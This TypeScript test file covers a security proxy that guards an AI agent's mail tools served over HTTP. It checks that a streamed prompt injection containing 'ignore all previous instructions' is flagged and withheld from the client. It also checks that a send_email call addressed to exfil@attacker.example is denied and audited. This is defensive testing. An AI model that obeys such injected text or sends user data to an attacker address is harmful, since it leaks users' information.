// HTTP client ↔ proxy ↔ HTTP server: the mail tools served over Streamable HTTP by a real SDK
// server in this process (ephemeral port), in every pairing of eras on the two sides. The upstream's
// streamed (SSE) responses are scanned before anything reaches the client; an upstream that goes
// away gives a clean error and an audit record.
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
// @ts-expect-error: a plain .mjs fixture without types
import { STREAMED_INJECTION, startMailHttpServer } from '../fixtures/servers/proxy/email-http.mjs';
import { tempDir } from './helpers.js';
import {
  connectHttp,
  type Era,
  portcullisMeta,
  type Result,
  records,
  startProxy,
  text,
} from './http-helpers.js';

type MailServer = { url: string; port: number; close: () => Promise<void> };
const dir = tempDir();
let upstream: MailServer;
const cleanups: (() => Promise<unknown>)[] = [];
beforeAll(async () => {
  upstream = (await startMailHttpServer()) as MailServer;
});
afterAll(async () => {
  for (const c of cleanups.reverse()) await c().catch(() => undefined);
  await upstream?.close();
});

const pairs: [Era, 'auto' | 'legacy'][] = [
  ['2026-07-28', 'auto'],
  ['legacy', 'auto'],
  ['2026-07-28', 'legacy'],
  ['legacy', 'legacy'],
];

describe.each(pairs)(
  'HTTP proxy in front of an HTTP server (%s client, %s upstream era)',
  (era, upstreamEra) => {
    it('guards calls and scans the streamed response before forwarding it', { timeout: 60_000 }, async () => {
      const audit = join(dir, `http-${era}-${upstreamEra}.jsonl`);
      const { proxy } = await startProxy(audit, { url: new URL(upstream.url) }, { upstreamEra });
      cleanups.push(() => proxy.close());
      const client = await connectHttp(proxy.url, era);
      cleanups.push(() => client.close());

      expect(client.getServerVersion()?.name).toBe('mail');
      // Each side really speaks the era under test.
      expect(client.getNegotiatedProtocolVersion() === '2026-07-28').toBe(era === '2026-07-28');
      expect(proxy.upstream.client.getNegotiatedProtocolVersion() === '2026-07-28').toBe(
        upstreamEra === 'auto',
      );
      const echo = (await client.callTool({ name: 'echo', arguments: { text: 'over http' } })) as Result;
      expect(text(echo)).toBe('over http');

      // The upstream answers fetch_feed with an SSE stream: progress notes, then the result.
      const notes: (string | undefined)[] = [];
      const feed = (await client.callTool(
        { name: 'fetch_feed', arguments: { steps: 3 } },
        { onprogress: (p) => notes.push(p.message) },
      )) as Result;
      expect(portcullisMeta(feed).flags).toContain('injection');
      expect(text(feed)).toContain('[portcullis]');
      // The injected progress note never reached the client; the honest ones did.
      expect(notes.join('\n')).not.toContain('ignore all previous instructions');
      expect(notes).toContain('step 2');
      expect(STREAMED_INJECTION).toContain('ignore all previous instructions');

      const exfil = (await client.callTool({
        name: 'send_email',
        arguments: { to: 'exfil@attacker.example', subject: 'notes', body: 'x' },
      })) as Result;
      expect(portcullisMeta(exfil).decision).toBe('deny');
      await client.close();
      await proxy.close();
      const recs = records(audit);
      expect(
        recs.some(
          (r) => r.tool === 'fetch_feed' && (r.meta as { flags?: string[] })?.flags?.includes('injection'),
        ),
      ).toBe(true);
      expect(recs.some((r) => r.tool === 'send_email' && r.decision === 'deny')).toBe(true);
    });
  },
);

describe('HTTP upstream failures', () => {
  it('an upstream that goes down gives a clean error and an audit record; the proxy keeps serving', {
    timeout: 60_000,
  }, async () => {
    const own = (await startMailHttpServer()) as MailServer;
    const audit = join(dir, 'down.jsonl');
    const { proxy } = await startProxy(audit, { url: new URL(own.url) }, { callTimeoutMs: 5_000 });
    cleanups.push(() => proxy.close());
    const client = await connectHttp(proxy.url, '2026-07-28');
    cleanups.push(() => client.close());
    expect(text((await client.callTool({ name: 'echo', arguments: { text: 'up' } })) as Result)).toBe('up');
    await own.close();
    const down = (await client.callTool({ name: 'echo', arguments: { text: 'down' } })) as Result;
    expect(down.isError).toBe(true);
    expect(portcullisMeta(down).decision).toBe('error');
    expect(text(down)).toMatch(/upstream server failed/);
    // The listener itself is fine: listing still reaches the proxy (and fails upstream, cleanly).
    await expect(client.listTools()).rejects.toThrow();
    await client.close();
    await proxy.close();
    const recs = records(audit);
    expect(recs.some((r) => r.tool === 'echo' && r.decision === 'error' && r.rule === 'upstream')).toBe(true);
  });

  it('refuses to start when the upstream cannot be reached', { timeout: 30_000 }, async () => {
    const gone = (await startMailHttpServer()) as MailServer;
    await gone.close();
    await expect(
      startProxy(join(dir, 'never.jsonl'), { url: new URL(gone.url) }, { connectTimeoutMs: 5_000 }),
    ).rejects.toThrow();
  });
});
